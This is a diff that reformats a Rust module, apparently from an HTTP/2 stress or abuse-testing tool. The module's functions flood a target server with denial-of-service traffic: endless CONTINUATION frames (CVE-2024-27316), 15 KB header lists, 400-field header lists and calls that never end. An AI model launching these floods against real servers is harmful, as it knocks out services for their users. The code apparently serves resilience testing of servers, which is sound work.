@@ -5,8 +5,8 @@ use futures_util::future::BoxFuture;
 
 use crate::abuse::{CANCEL, PATH, opened};
 use crate::support::http2::{
-    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW_UPDATE, fields, frame, headers,
-    string,
+    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW_UPDATE,
+    fields, frame, headers, string,
 };
 
 use super::client::{connect, crowd, flood};
@@ -61,7 +61,11 @@ pub(super) fn empty_continuations(target: Target) -> BoxFuture<'static, ()> {
 /// Sends endless CONTINUATION frames (CVE-2024-27316).
 pub(super) fn continuations(target: Target) -> BoxFuture<'static, ()> {
     let field = [&[0][..], &string(b"x"), &string(&[b'v'; 100])].concat();
-    flood_of(target, frame(HEADERS, 0, 1, &headers(PATH)), frame(CONTINUATION, 0, 1, &field.repeat(100)))
+    flood_of(
+        target,
+        frame(HEADERS, 0, 1, &headers(PATH)),
+        frame(CONTINUATION, 0, 1, &field.repeat(100)),
+    )
 }
 
 /// Sends a field of 4 KB for the dynamic table, and 12,000 references of one byte to it.
@@ -94,7 +98,8 @@ fn resets_of(target: Target, path: &str) -> BoxFuture<'static, ()> {
 
 /// Sends header lists of 15 KB, in calls that do not end.
 pub(super) fn long_headers(target: Target) -> BoxFuture<'static, ()> {
-    let usual: [(&str, &[u8]); 3] = [(":method", b"POST"), (":scheme", b"http"), (":path", PATH.as_bytes())];
+    let usual: [(&str, &[u8]); 3] =
+        [(":method", b"POST"), (":scheme", b"http"), (":path", PATH.as_bytes())];
     let block = fields(&[&usual[..], &[("x", &[b'v'; 15 << 10])]].concat());
     calls_of(target, move |stream| frame(HEADERS, END_HEADERS, stream, &block))
 }
@@ -102,14 +107,18 @@ pub(super) fn long_headers(target: Target) -> BoxFuture<'static, ()> {
 /// Sends header lists of 400 fields.
 pub(super) fn many_headers(target: Target) -> BoxFuture<'static, ()> {
     let names: Vec<String> = (0..400).map(|number| format!("x{number}")).collect();
-    let usual: [(&str, &[u8]); 3] = [(":method", b"POST"), (":scheme", b"http"), (":path", PATH.as_bytes())];
+    let usual: [(&str, &[u8]); 3] =
+        [(":method", b"POST"), (":scheme", b"http"), (":path", PATH.as_bytes())];
     let more: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"v"[..])).collect();
     let block = fields(&[&usual[..], &more].concat());
     calls_of(target, move |stream| frame(HEADERS, END_HEADERS, stream, &block))
 }
 
 /// Returns a flood of calls, each on a stream of its own.
-fn calls_of(target: Target, call: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static) -> BoxFuture<'static, ()> {
+fn calls_of(
+    target: Target,
+    call: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
+) -> BoxFuture<'static, ()> {
     let attack = move || {
         let call = call.clone();
         let mut stream = 1;
